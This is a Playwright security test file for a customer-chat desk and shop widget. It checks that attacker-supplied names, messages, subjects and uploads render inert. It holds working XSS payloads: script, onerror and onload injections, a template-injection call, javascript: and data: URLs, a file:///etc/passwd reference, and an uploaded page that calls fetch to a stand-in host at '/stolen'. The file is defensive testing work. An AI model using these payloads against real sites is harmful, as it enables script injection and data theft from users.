import { expect, type Frame, type Page, test } from "@playwright/test";
import { deskOn } from "../pages/desk";
import { deskOf, openChat, openShop, write } from "../pages/shop";
import { createChannel, createWorkspace, ownerAt, restOf, type Workspace } from "../pages/workspace";

const ELSEWHERE = "https://elsewhere.example";
/** Whatever of it runs leaves its mark. */
const SCRIPT = `"><script>window.ran=1</script><img src=${ELSEWHERE}/a.png onerror=window.ran=1><svg onload=alert(1)>{{constructor.constructor('window.ran=1')()}}`;
const TEXT = `${SCRIPT}\njavascript:window.ran=1 data:text/html,<script>window.ran=1</script> vbscript:x file:///etc/passwd ${ELSEWHERE}/page <a href="javascript:window.ran=1">x</a> someone@elsewhere.example`;
const PAGE = `<!doctype html><script>window.ran=1;fetch("${ELSEWHERE}/stolen")</script>`;

/** Notes what a page does that it should not: dialogs, and requests to whoever is not us. */
function watch(page: Page, own: string[]) {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { origin, protocol } = new URL(request.url());
    if (protocol.startsWith("http") && !own.includes(origin)) seen.push(request.url());
  });
  return seen;
}

/** Nothing ran, and a click on anything leads to the web, a mail or a phone and gives the other side no hold on us. */
async function expectInert(frame: Page | Frame): Promise<void> {
  expect(await frame.evaluate(() => "ran" in window)).toBe(false);
  const links = await frame
    .locator("a[href]")
    .evaluateAll((all) =>
      (all as HTMLAnchorElement[]).map(({ protocol, target, rel, origin }) => ({ protocol, target, rel, isOurs: origin === location.origin })),
    );
  for (const { protocol, target, rel, isOurs } of links) {
    expect(["http:", "https:", "mailto:", "tel:"]).toContain(protocol);
    if (target === "_blank" || (!isOurs && protocol.startsWith("http"))) expect(rel).toContain("noopener");
  }
}

async function upload({ apiKey }: Workspace, name: string, type: string, text: string): Promise<{ uploadId: string }> {
  const form = new FormData();
  form.set("file", new File([text], name, { type }));
  const answer = await fetch(`${process.env.PARLEY_URL}/api/v1/uploads`, { method: "POST", headers: { authorization: `Bearer ${apiKey}` }, body: form });
  return { uploadId: ((await answer.json()) as { uploadId: string }).uploadId };
}

test("what a stranger calls themselves, writes and sends runs nowhere on the desk", async ({ browser }) => {
  const workspace = await createWorkspace();
  const rest = restOf(workspace);
  const { id: channelId } = await createChannel(workspace, { kind: "api", name: `Shop ${SCRIPT}` });
  const contact = await rest<{ id: string }>("/contacts", {
    name: `Mallory ${SCRIPT}`.slice(0, 200),
    attributes: { [`note ${SCRIPT}`.slice(0, 100)]: SCRIPT },
  });
  await rest(`/contacts/${contact.id}/identities`, { channelId, value: "mallory" });
  await rest("/conversations", { contactId: contact.id, channelId, subject: `Subject ${SCRIPT}`.slice(0, 300) });
  const attachments = await Promise.all([
    upload(workspace, `${SCRIPT}.html`, "image/png", PAGE),
    upload(workspace, "picture.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><script>window.ran=1</script></svg>'),
  ]);
  await rest(`/channels/${channelId}/inbound`, { externalId: "1", from: { externalId: "mallory" }, text: TEXT, attachments });

  const page = await ownerAt(browser, workspace);
  const seen = watch(page, [process.env.PARLEY_URL ?? ""]);
  const desk = deskOn(page);
  await desk.row("Mallory").click();
  await expect(desk.thread).toContainText("javascript:window.ran=1");
  await expect(desk.thread.getByText("picture.svg")).toBeVisible();
  await expectInert(page);
  const [tab] = await Promise.all([page.context().waitForEvent("page"), desk.thread.getByRole("link", { name: `${ELSEWHERE}/page` }).click()]);
  expect(await tab.evaluate(() => window.opener)).toBeNull();
  await tab.close();
  for (const path of [`/w/${workspace.slug}/contacts`, `/w/${workspace.slug}/contacts/${contact.id}`, `/w/${workspace.slug}/settings/channels`]) {
    await page.goto(path);
    await expect(page.getByText("<script>").first()).toBeVisible();
    await expectInert(page);
  }
  expect(seen).toEqual([]);
  await page.context().close();
});

test("what an agent writes runs nowhere on the business's site, and what a visitor's page says runs nowhere on the desk", async ({ browser, context }) => {
  const { shop, ...workspace } = await openShop();
  const { page: visitor, panel } = await openChat(context, shop.url);
  const seen = watch(visitor, [process.env.PARLEY_URL ?? "", new URL(shop.url).origin]);
  await write(panel, TEXT.replaceAll("\n", " "));
  const business = deskOf(workspace.apiKey);
  await expect.poll(async () => (await business.conversations()).length).toBe(1);
  await business.reply(TEXT);
  await expect(panel.getByText("javascript:window.ran=1")).toHaveCount(2);
  await expectInert(panel);
  expect(await visitor.evaluate(() => "ran" in window)).toBe(false);
  expect(seen).toEqual([]);
  const page = await ownerAt(browser, workspace);
  await deskOn(page).row("Visitor").click();
  await expect(deskOn(page).thread.getByText("javascript:window.ran=1")).toHaveCount(2);
  await expectInert(page);
  await page.context().close();
  await shop.close();
});
